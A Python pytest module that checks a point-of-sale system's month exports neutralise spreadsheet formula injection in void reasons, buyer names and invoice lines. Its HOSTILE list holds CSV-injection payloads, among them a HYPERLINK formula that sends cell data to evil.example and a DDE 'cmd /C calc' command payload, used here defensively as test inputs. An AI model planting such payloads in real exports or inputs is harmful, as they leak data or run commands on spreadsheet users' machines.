"""Typed text never becomes a live formula in an export (issue 16, defect 10; OWASP CSV
injection): a void reason, a buyer's name or a service's name that begins with =, +, -, @,
a tab or CR is a string cell in the workbook and neutralised in the CSV; amounts stay
numbers. Where LibreOffice is installed the workbook is opened by it headless
(soffice --convert-to csv) and read back: the texts are plain text, the amounts numbers."""

from __future__ import annotations

import csv
import re
import shutil
import subprocess
from datetime import UTC, datetime
from decimal import Decimal

import openpyxl
import pytest

from services.core.spreadsheet_cells import csv_text, looks_like_formula
from services.invoices import invoices
from services.invoices.invoices import LineInput, SourceReceipt
from services.reports import month_export
from services.sales import price_list, sales
from services.shifts import shifts

NUMBER = re.compile(r"-?\d+(\.\d+)?")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tlead tab",
]


@pytest.fixture
def hostile_month(role_ctx, clock, tmp_path):
    admin, clerk, lead = role_ctx["admin"], role_ctx["clerk"], role_ctx["shift_lead"]
    price_list.ensure_default_prices(admin)
    shifts.open_shift(clerk, {10000: 1})
    items = price_list.list_prices(clerk)
    for reason in HOSTILE:
        sale = sales.sell(clerk, [(items[0].id, 2)], "cash")
        sales.void_sale(lead, sale.receipt_no, reason)
    kept = sales.sell(clerk, [(items[1].id, 1)], "wechat")
    for n, name in enumerate(HOSTILE):
        inv = invoices.issue_invoice(
            clerk,
            buyer_kind="person",
            buyer_name=name,
            lines=[LineInput(name, 1, 1000, 6)],
            sources=[SourceReceipt(f"P-{n}", 1000)],
        )
        invoices.void_invoice(lead, inv.invoice_no, HOSTILE[-1 - n])
    shifts.record_count(lead, {10000: 1})  # the month's cash shows once the drawer is counted
    clock.at = datetime(2026, 4, 2, 2, 0, tzinfo=UTC)
    result = month_export.export_month(
        role_ctx["supervisor"], "2026-03", tmp_path / "m.xlsx", csv_dir=tmp_path / "csv"
    )
    return result, kept


def test_the_neutraliser_leaves_numbers_and_plain_text():
    assert csv_text(-5) == -5 and csv_text(Decimal("-1.50")) == Decimal("-1.50")
    assert csv_text("plain") == "plain" and csv_text("a=b") == "a=b"
    for text in (*HOSTILE, "\rx"):
        assert looks_like_formula(text) and csv_text(text) == "'" + text


def test_no_formula_in_the_workbook_and_amounts_are_numbers(hostile_month):
    result, kept = hostile_month
    wb = openpyxl.load_workbook(result.path)
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    assert any(t.startswith("=HYPERLINK") for t in texts)  # kept as the clerk typed it
    receipts = wb["Receipts"]
    amounts = [r[5].value for r in receipts.iter_rows(min_row=2)]
    assert amounts and all(isinstance(a, (int, float)) for a in amounts)


def test_no_cell_of_the_csvs_starts_a_formula(hostile_month):
    result, _ = hostile_month
    files = sorted(result.csv_dir.glob("*.csv"))
    assert files
    seen_reason = False
    for path in files:
        with open(path, encoding="utf-8-sig", newline="") as handle:
            for row in csv.reader(handle):
                for value in row:
                    if NUMBER.fullmatch(value):  # an amount (a negative one too) is a number
                        continue
                    assert not looks_like_formula(value), f"{path.name}: {value!r}"
                    seen_reason |= value.startswith("'=HYPERLINK")
    assert seen_reason


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_reads_texts_as_text_and_amounts_as_numbers(hostile_month, tmp_path):
    result, _ = hostile_month
    out = tmp_path / "lo"
    profile = tmp_path / "lo-profile"
    for sheet, name in ((2, "Receipts"), (4, "Invoices")):
        subprocess.run(
            [
                "soffice",
                f"-env:UserInstallation=file://{profile}",
                "--headless",
                "--convert-to",
                # 44 , 34 " UTF-8 (76), first line, sheet number: values as LibreOffice sees them
                "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,"
                f"{sheet}",
                "--outdir",
                str(out),
                str(result.path),
            ],
            check=True,
            capture_output=True,
            timeout=180,
        )
        converted = next(out.glob(f"m*{name}*.csv"), None) or next(out.glob("m*.csv"))
        with open(converted, encoding="utf-8", newline="") as handle:
            rows = list(csv.reader(handle))
        converted.unlink()
        cells = [v for row in rows[1:] for v in row]
        # a formula would have been computed (a link text, a number, an error), not kept
        for text in HOSTILE[:4]:
            if name == "Receipts":  # the void reasons, exactly as typed
                assert text in cells, (name, text)
            else:  # the buyer's name is masked to its first character
                assert any(v.startswith(text[:1]) for v in cells), (name, text)
        assert not any(v in ("Click", "2", "#NAME?", "Err:508", "#VALUE!") for v in cells)
        if name == "Receipts":
            amounts = [row[5] for row in rows[1:] if len(row) > 5]
            assert amounts and all(Decimal(a) >= 0 for a in amounts)
